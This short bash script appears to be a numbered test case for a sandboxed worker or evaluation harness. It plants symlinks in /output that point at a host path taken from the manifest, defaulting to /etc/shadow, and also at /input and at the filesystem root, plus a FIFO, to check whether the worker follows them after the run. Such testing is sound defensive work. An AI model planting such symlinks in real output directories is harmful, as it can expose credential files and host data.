#!/bin/bash
# (10) Leaves symlinks in /output pointing at a host path (named in "probe.paths"), at /input and at /, hoping the
# worker reads or writes through them after the run.
target=$(grep -o '"paths":"[^"]*"' /input/manifest.json | cut -d'"' -f4 | cut -d' ' -f1)
ln -s "${target:-/etc/shadow}" /output/predictions.jsonl
ln -s /input/manifest.json /output/manifest-link
ln -s / /output/masks
mkfifo /output/fifo 2>/dev/null
ls -la /output
exit 0
